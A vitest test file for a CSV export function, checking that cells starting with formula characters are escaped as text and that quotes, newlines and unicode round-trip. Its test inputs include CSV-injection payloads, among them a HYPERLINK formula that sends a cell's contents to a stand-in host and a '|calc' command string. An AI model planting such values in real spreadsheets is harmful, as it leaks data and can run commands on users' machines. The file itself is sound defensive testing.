import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { toCsv } from './csv.ts';

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '  =1',
  '|calc',
  '%0A=1',
  '=HYPERLINK("http://x.example?"&A1,"x")',
])('%j is text, not a formula', (text) => {
  const [[value]] = parse(toCsv(['a'], [[text]]), { bom: true, from_line: 2 }) as [[string]];
  expect(value).toBe(`'${text}`);
});

test('what was written can be read: quotes, line ends, commas, empty cells, numbers', () => {
  const rows = [['He said "no",\nthen left', null, 5, 'Zoë 🌊', 'a=b']];
  expect(parse(toCsv(['a', 'b', 'c', 'd', 'e'], rows), { bom: true })).toEqual([
    ['a', 'b', 'c', 'd', 'e'],
    ['He said "no",\nthen left', '', '5', 'Zoë 🌊', 'a=b'],
  ]);
});
